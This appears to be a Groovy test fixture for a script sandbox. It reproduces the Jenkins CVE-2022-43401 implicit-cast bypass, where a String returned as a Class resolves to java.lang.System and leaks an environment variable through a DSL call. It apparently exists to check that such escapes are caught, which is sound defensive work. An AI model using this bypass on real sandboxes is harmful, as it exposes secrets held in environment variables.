// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (method return values) with a Class from a String
// expect: env
// A String returned as Class is Class.forName(string): static methods of System without naming it.
Class system() { 'java.lang.System' }
vmwareSite("leak-${system().getenv('@ENV_NAME@')}") { network 'VM Network' }
